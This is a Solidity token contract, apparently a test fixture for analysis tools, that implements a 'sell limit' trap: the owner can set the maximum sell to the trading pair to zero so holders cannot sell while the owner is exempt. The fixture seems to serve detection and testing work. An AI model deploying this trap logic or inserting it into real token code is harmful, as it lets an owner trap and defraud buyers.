// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// @title SellLimitToken
/// @notice ANALYSIS FIXTURE (token trap): sells to the AMM pair are capped by a limit the owner
///         sets, and the owner can set it to zero so that nobody can sell.
contract SellLimitToken {
    string public constant name = "Sell Limit Token";
    string public constant symbol = "LIMIT";
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public owner;

    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    modifier onlyOwner() {
        require(msg.sender == owner, "not owner");
        _;
    }

    constructor() {
        owner = msg.sender;
        totalSupply = 1_000_000e18;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        require(allowance[from][msg.sender] >= amount, "allowance");
        allowance[from][msg.sender] -= amount;
        _transfer(from, to, amount);
        return true;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    address public ammPair;
    uint256 public maxSell = 1_000e18;

    function setAmmPair(address pair) external onlyOwner {
        ammPair = pair;
    }

    function setMaxSell(uint256 amount) external onlyOwner {
        maxSell = amount;
    }

    function _transfer(address from, address to, uint256 amount) internal {
        if (to == ammPair && from != owner) {
            require(amount <= maxSell, "sell limit");
        }
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        emit Transfer(from, to, amount);
    }
}
